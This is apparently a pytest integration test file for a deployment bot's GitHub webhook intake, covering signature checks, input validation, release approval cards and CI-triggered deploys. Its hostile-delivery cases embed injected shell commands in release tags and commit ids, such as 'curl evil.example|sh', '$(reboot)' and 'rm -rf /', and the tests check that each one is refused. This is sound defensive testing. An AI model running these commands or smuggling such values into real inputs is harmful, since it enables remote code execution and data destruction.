"""GitHub's webhook, end to end inside the bot: signed deliveries POSTed to the running
bot's HTTP server (`serve`, as `greenlight bot` runs it), the ops chat on the Bot API
emulator, a private Redis (records, the RQ queue, the audit trail; no workers), and the
GitHub stand-in for what the bot asks of GitHub."""

from __future__ import annotations

import asyncio
import json
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import Any

import aiohttp
import pytest
import redis

from bot.emulator import Emulator
from bot.github.intake import DELIVERIES_KEY
from deploy.spec import Spec, parse_spec
from jobs.lease import Lease
from jobs.queue import queue
from jobs.records import RecordStore
from jobs.streams import AuditEntry, read_audit
from tests.bot.chat import Message, People, until
from tests.bot.conftest import Users
from tests.bot.running import BOB, OPS, serving, settings_for
from tests.github_payloads import deliver, release, workflow_run
from tests.github_standin import GitHubStandIn, running_github
from tests.redis_server import free_port

SECRET = "hook-secret-7Qf2vX9p"
TOKEN = "ghp_plantedTokenValue0123456789abcdefXYZ"


def app_spec(app: str, repo: str, address: str, **github: Any) -> Spec:
    host = {"name": "h1", "address": address}
    env = {"public_url": f"http://{address}", "ssh": {"key": "k", "known_hosts": "kh"}}
    return parse_spec(
        {
            "app": app,
            "image": f"registry.example.com/acme/{app}",
            "default_environment": "production",
            "environments": {
                "production": {**env, "hosts": [host]},
                "staging": {
                    **env,
                    "hosts": [host],
                    "approval": "none",
                    "app_dir": "app-staging",
                    "project": f"{app}-staging",
                    "ports": {"blue": 8021, "green": 8022},
                    "proxy": {"upstream_file": "nginx/upstream-staging.conf"},
                },
            },
            "github": {"repository": repo, **github},
        }
    )


SPECS = {
    # shop: releases to production (approval required), prereleases and CI to staging.
    "shop": app_spec(
        "shop",
        "acme/shop",
        "10.0.0.1",
        release={"environment": "production", "prereleases": "staging"},
        ci={"workflow": "build.yml", "branch": "main", "environment": "staging"},
    ),
    # ledger: releases only; prereleases ignored.
    "ledger": app_spec("ledger", "acme/ledger", "10.0.0.2", release={"environment": "production"}),
}


@dataclass
class Hook:
    base: str
    session: aiohttp.ClientSession
    people: People
    github: GitHubStandIn

    async def send(self, event: str, payload: Any, **more: Any) -> tuple[int, dict[str, Any]]:
        return await deliver(
            self.session, self.base, event, payload, more.pop("secret", SECRET), **more
        )


@asynccontextmanager
async def hooked(
    emulator: Emulator, users: Users, r: redis.Redis, **more: Any
) -> AsyncIterator[Hook]:
    async with running_github(TOKEN) as github:
        for repo in ("acme/shop", "acme/ledger"):
            github.add_repo(repo)
        port = free_port()
        settings = settings_for(
            emulator,
            GREENLIGHT_HTTP_PORT=port,
            GREENLIGHT_GITHUB_SECRET=SECRET,
            GREENLIGHT_GITHUB_TOKEN=TOKEN,
            GREENLIGHT_GITHUB_API=github.url,
            **more,
        )
        await users.call("chat", **OPS)
        async with serving(settings, SPECS, r) as base, aiohttp.ClientSession() as session:
            yield Hook(base, session, People(users), github)


@pytest.fixture
async def hook(
    emulator: Emulator, users: Users, r: redis.Redis, caplog: pytest.LogCaptureFixture
) -> AsyncIterator[Hook]:
    caplog.set_level(logging.DEBUG)
    async with hooked(emulator, users, r) as running:
        yield running
        transcript = json.dumps(await running.people.messages(OPS["id"]))
    for secret in (SECRET, TOKEN, emulator.token):
        assert secret not in transcript
        for record in caplog.records:
            assert secret not in record.getMessage()


def webhook_trail(r: redis.Redis) -> list[AuditEntry]:
    return [e for e in read_audit(r, 200) if e.action == "webhook"]


def nothing_requested(r: redis.Redis) -> None:
    """No record, no lease, no job, nothing queued for the relay."""
    for app in SPECS:
        for env in ("production", "staging"):
            assert RecordStore(r).recent(app, env) == []
            assert Lease(r, app, env).holder() is None
    assert queue(r).count == 0
    assert r.xlen(DELIVERIES_KEY) == 0


async def card_of(people: People, text: str) -> Message:
    async def found() -> Message | None:
        sent = await people.bot_messages(OPS["id"])
        return next((m for m in sent if text in m["text"]), None)

    return await until(found, f"a message saying {text!r}")  # type: ignore[no-any-return]


# -- refused, ignored and answered without work: the hostile corpus --------------------

BIG = {"action": "published", "padding": "x" * (1024**2)}
SHOP = "acme/shop"
HOSTILE: list[tuple[str, str, Any, dict[str, Any], int, str]] = [
    # (case, event, payload, how it is sent, status, what the audit says)
    ("unsigned", "release", release(SHOP, "v1.0.1"), {"secret": None}, 401, "no X-Hub"),
    (
        "a signature that is not one",
        "release",
        release(SHOP, "v1.0.1"),
        {"extra": {"X-Hub-Signature-256": "sha256=deadbeef"}},
        401,
        "a wrong X-Hub",
    ),
    (
        "signed with another secret",
        "release",
        release(SHOP, "v1.0.1"),
        {"secret": "not-the-secret"},
        401,
        "a wrong X-Hub",
    ),
    (
        "a non-ASCII signature",
        "release",
        release(SHOP, "v1.0.1"),
        {"extra": {"X-Hub-Signature-256": "sha256=ü"}},
        401,
        "a wrong X-Hub",
    ),
    ("over 1 MiB", "release", BIG, {}, 413, "over 1 MiB"),
    ("not JSON", "release", None, {"body": b"{not json"}, 400, "not a JSON object"),
    ("a JSON list", "release", None, {"body": b"[1, 2]"}, 400, "not a JSON object"),
    (
        "no delivery id",
        "release",
        release(SHOP, "v1.0.1"),
        {"extra": {"X-GitHub-Delivery": ""}},
        400,
        "X-GitHub-Delivery",
    ),
    (
        "an unknown repository",
        "release",
        release("mallory/shop", "v1.0.1"),
        {},
        422,
        "no spec names the repository 'mallory/shop'",
    ),
    ("a draft", "release", release(SHOP, "v1.0.1", draft=True), {}, 202, "is a draft"),
    (
        "a prerelease where prereleases are ignored",
        "release",
        release("acme/ledger", "v2.0.0-rc.1", prerelease=True),
        {},
        202,
        "ledger ignores those",
    ),
    ("a tag that is no version", "release", release(SHOP, "latest"), {}, 422, "not semver"),
    (
        "a tag with shell metacharacters",
        "release",
        release(SHOP, "v1.0.1;curl evil.example|sh"),
        {},
        422,
        "not semver",
    ),
    ("a tag with $()", "release", release(SHOP, "$(reboot)"), {}, 422, "not semver"),
    (
        "a tag with a newline",
        "release",
        release(SHOP, "v1.0.1\nrm -rf /"),
        {},
        422,
        "outside printable ASCII",
    ),
    (
        "a release without its fields",
        "release",
        {"action": "published", "repository": {"full_name": SHOP}},
        {},
        422,
        "not a release payload",
    ),
    (
        "a release created",
        "release",
        release(SHOP, "v1.0.1", action="created"),
        {},
        202,
        "acts on published",
    ),
    (
        "a prereleased action (the published one deploys)",
        "release",
        release(SHOP, "v1.1.0-rc.1", action="prereleased", prerelease=True),
        {},
        202,
        "acts on published",
    ),
    (
        "CI on another branch",
        "workflow_run",
        workflow_run(SHOP, branch="feature/x"),
        {},
        202,
        "not 'main'",
    ),
    (
        "CI that failed",
        "workflow_run",
        workflow_run(SHOP, conclusion="failure"),
        {},
        202,
        "'failure'",
    ),
    (
        "CI still running",
        "workflow_run",
        workflow_run(SHOP, action="in_progress"),
        {},
        202,
        "acts on completed",
    ),
    (
        "another workflow",
        "workflow_run",
        workflow_run(SHOP, name="Lint", path=".github/workflows/lint.yml"),
        {},
        202,
        "is not 'build.yml'",
    ),
    (
        "CI with a commit id that is not one",
        "workflow_run",
        workflow_run(SHOP, sha="$(id)"),
        {},
        422,
        "not a git commit id",
    ),
    (
        "CI of a repository that deploys no CI builds",
        "workflow_run",
        workflow_run("acme/ledger"),
        {},
        202,
        "does not deploy CI builds",
    ),
    (
        "a push",
        "push",
        {"ref": "refs/heads/main", "repository": {"full_name": SHOP}},
        {},
        202,
        "not an event Greenlight acts on",
    ),
    ("a ping", "ping", {"zen": "Keep it logically awesome.", "hook_id": 1}, {}, 200, "ping"),
]


@pytest.mark.parametrize(
    ("event", "payload", "how", "status", "said"),
    [case[1:] for case in HOSTILE],
    ids=[case[0] for case in HOSTILE],
)
async def test_a_delivery_that_asks_for_nothing_changes_nothing(
    hook: Hook,
    r: redis.Redis,
    event: str,
    payload: Any,
    how: dict[str, Any],
    status: int,
    said: str,
) -> None:
    answered, body = await hook.send(event, payload, **how)
    assert answered == status, body
    if status < 500 and body:
        assert said in body["reason"]
    entries = webhook_trail(r)
    assert len(entries) == 1 and said in entries[0].reason, entries
    expected = {200: "accepted", 202: "ignored"}.get(status, "refused")
    assert entries[0].result == expected
    await asyncio.sleep(0.3)  # the relay would have acted by now
    nothing_requested(r)
    assert await hook.people.bot_messages(OPS["id"]) == []


# -- a release published --------------------------------------------------------------


def button(card: Message, text: str) -> str:
    return next(b["callback_data"] for row in card["buttons"] for b in row if text in b["text"])


async def test_a_published_release_asks_the_ops_chat_and_approve_queues_it(
    hook: Hook, r: redis.Redis
) -> None:
    status, body = await hook.send("release", release(SHOP, "v1.0.1", name="Spring cleaning"))
    assert (status, body["result"]) == (202, "accepted")
    card = await card_of(hook.people, "Spring cleaning")
    lines = card["text"].splitlines()
    assert lines[0] == "🚦 deploy of v1.0.1 to shop/production"
    assert lines[1].startswith("requested by github:rita · shop-production-v1.0.1-")
    assert lines[2] == "🏷 release Spring cleaning of acme/shop by rita"
    assert "* Faster checkout (#42)" in card["text"]
    assert card["text"].endswith("on GitHub\nawaits approval by someone else")
    links = [e["url"] for e in card["entities"] if e["type"] == "text_link"]
    assert links == ["https://github.com/acme/shop/releases/tag/v1.0.1"] * 2
    assert [b["text"] for row in card["buttons"] for b in row] == ["✅ Approve", "❌ Reject"]
    record = RecordStore(r).recent("shop", "production")[0]
    assert record.state == "awaiting_approval" and record.origin is not None
    assert (record.requested_by, record.origin.ref) == ("github:rita", "v1.0.1")
    assert queue(r).count == 0

    answer = await hook.people.press(BOB, OPS["id"], card, button(card, "Approve"))
    assert answer == "Approved: queued."
    record = RecordStore(r).load(record.id)
    assert record is not None and (record.state, record.approved_by) == ("queued", "tg:1002")
    assert queue(r).count == 1
    decided = await hook.people.card(OPS["id"], card)
    assert "Faster checkout" in decided["text"]  # the notes stay on the decided card


async def test_a_redelivered_release_and_ten_copies_at_once_ask_once(
    hook: Hook, r: redis.Redis
) -> None:
    payload = release(SHOP, "v1.0.1")
    answers = await asyncio.gather(
        *(hook.send("release", payload, delivery="d-72d3162e-cc78-11e3") for _ in range(10))
    )
    assert sorted(status for status, _ in answers) == [200] * 9 + [202]
    await card_of(hook.people, "release Release v1.0.1")
    again, body = await hook.send("release", payload, delivery="d-72d3162e-cc78-11e3")
    assert (again, body["reason"]) == (200, "release from 'acme/shop': a duplicate delivery")
    await asyncio.sleep(0.3)
    assert len(RecordStore(r).recent("shop", "production")) == 1
    assert len(await hook.people.bot_messages(OPS["id"])) == 1
    results = [e.result for e in webhook_trail(r)]
    assert results.count("accepted") == 1 and results.count("ignored") == 10


async def test_a_prerelease_goes_to_its_environment_at_once_with_abort(
    hook: Hook, r: redis.Redis
) -> None:
    status, _ = await hook.send("release", release(SHOP, "v1.1.0-rc.1", prerelease=True))
    assert status == 202
    progress = await card_of(hook.people, "deploy of v1.1.0-rc.1 to shop/staging")
    assert "started at once: no approval needed" in progress["text"]
    assert "🏷 release Release v1.1.0-rc.1 of acme/shop by rita" in progress["text"]
    assert [b["text"] for row in progress["buttons"] for b in row] == ["🛑 Abort"]
    record = RecordStore(r).recent("shop", "staging")[0]
    assert record.state == "queued" and queue(r).count == 1
    assert RecordStore(r).recent("shop", "production") == []


async def test_a_release_edited_then_deleted_while_waiting_updates_then_withdraws_its_card(
    hook: Hook, r: redis.Redis
) -> None:
    await hook.send("release", release(SHOP, "v1.0.1", body="first words"))
    card = await card_of(hook.people, "first words")
    edited = release(SHOP, "v1.0.1", action="edited", body="* Now with the migration notes")
    assert (await hook.send("release", edited))[0] == 202

    async def updated() -> Message | None:
        now = await hook.people.card(OPS["id"], card)
        return now if "migration notes" in now["text"] else None

    now = await until(updated, "the card to show the edited notes")
    assert "first words" not in now["text"] and len(now["buttons"][0]) == 2
    record = RecordStore(r).recent("shop", "production")[0]
    assert record.origin is not None and record.origin.notes == "* Now with the migration notes"

    deleted = release(SHOP, "v1.0.1", action="deleted", sender="rita")
    assert (await hook.send("release", deleted))[0] == 202

    async def withdrawn() -> Message | None:
        now = await hook.people.card(OPS["id"], card)
        return now if "was cancelled" in now["text"] else None

    ended = await until(withdrawn, "the card to say the request was withdrawn")
    assert ended["buttons"] == []
    assert ended["text"].splitlines()[-1] == (
        "🛑 was cancelled by github:rita: the release v1.0.1 was deleted on GitHub"
    )
    record = RecordStore(r).load(record.id)
    assert record is not None and record.state == "cancelled"
    assert Lease(r, "shop", "production").holder() is None
    assert queue(r).count == 0


async def test_a_release_the_jobs_api_refuses_is_said_in_the_chat(
    hook: Hook, r: redis.Redis
) -> None:
    await hook.send("release", release(SHOP, "v1.0.1", release_id=1))
    await card_of(hook.people, "release Release v1.0.1")
    # A second release while the first waits: the environment is taken.
    await hook.send("release", release(SHOP, "v1.0.2", release_id=2))
    refusal = await card_of(hook.people, "asked for v1.0.2; refused")
    assert "shop/production is busy" in refusal["text"] or "production-v1.0.1" in refusal["text"]
    assert len(RecordStore(r).recent("shop", "production")) == 1


# -- CI success -----------------------------------------------------------------------


async def test_a_successful_ci_run_on_main_deploys_its_commit_image_to_staging(
    hook: Hook, r: redis.Redis
) -> None:
    sha = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
    status, _ = await hook.send("workflow_run", workflow_run(SHOP, sha=sha))
    assert status == 202
    progress = await card_of(hook.people, "to shop/staging")
    assert "🏗 CI run Build of acme/shop at 0a1b2c3 by carla" in progress["text"]
    record = RecordStore(r).recent("shop", "staging")[0]
    assert record.version == "v0.0.0-ci.20261201095807.0a1b2c3"
    assert record.deployment is not None and record.deployment.tag == "sha-0a1b2c3"
    assert (record.requested_by, record.state) == ("github:carla", "queued")
